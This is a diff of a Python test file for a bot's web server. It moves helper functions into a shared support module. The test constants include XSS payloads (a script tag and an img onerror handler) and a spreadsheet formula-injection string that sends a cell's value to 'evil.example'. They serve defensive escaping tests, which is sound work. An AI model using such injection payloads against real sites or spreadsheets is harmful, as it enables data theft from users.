@@ -5,39 +5,29 @@ CSV safe against formulas, JSON, Atom, English and French."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
-import threading
 import urllib.error
 import urllib.request
-from datetime import timedelta
 from xml.etree import ElementTree
 
 import pytest
 
 from bot.config import load_entities, load_settings
-from bot.core.models import Entry, Feed, Pledge
+from bot.core.models import Feed, Pledge
 from bot.core.pledges.filters import PledgeFilter, parse_pledge_filters
 from bot.errors import ConfigError
 from bot.web.headers import CSP
 from bot.web.params import BadRequest, View, filter_words, link, parse_view
 from bot.web.server import WebServer
 from bot.web.texts import negotiate
+from tests.support.web_serving import add_story as _add
+from tests.support.web_serving import serving
 
 HOSTILE_TITLE = 'Aid <script>alert("t")</script> & more'
 HOSTILE_OUTLET = '<img src=x onerror=alert(1)>Wire'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-def _add(store, clock, feed_id, n, title, outlet, url, pledges, days_ago):
-    when = clock.now() - timedelta(days=days_ago)
-    entry_id = store.insert_entry(feed_id, Entry(feed_url="", guid=f"g{n}", url=url, title=title, published=when),
-                                  url, when)
-    story_id = store.create_story(title, url, when, when, "{}", ["aid"], 2.0)
-    store.add_story_source(story_id, entry_id, feed_id, outlet, url, when)
-    store.add_pledges(story_id, entry_id, pledges, when)
 
 
 @pytest.fixture
@@ -57,26 +47,6 @@ def filled(store, clock):
 def web(filled, clock):
     """A real WebServer on a loopback port, in its own event loop thread."""
     yield from serving(WebServer(filled.path, load_entities(), clock, "127.0.0.1", 0))
-
-
-def serving(server: WebServer):
-    loop = asyncio.new_event_loop()
-    ready = threading.Event()
-    stop = asyncio.Event()
-
-    async def serve():
-        await server.start()
-        ready.set()
-        await stop.wait()
-        await server.stop()
-
-    thread = threading.Thread(target=loop.run_until_complete, args=(serve(),), daemon=True)
-    thread.start()
-    assert ready.wait(10)
-    yield f"http://127.0.0.1:{server.port}"
-    loop.call_soon_threadsafe(stop.set)
-    thread.join(10)
-    loop.close()
 
 
 def get(url: str, **headers: str) -> tuple[int, dict, str]:
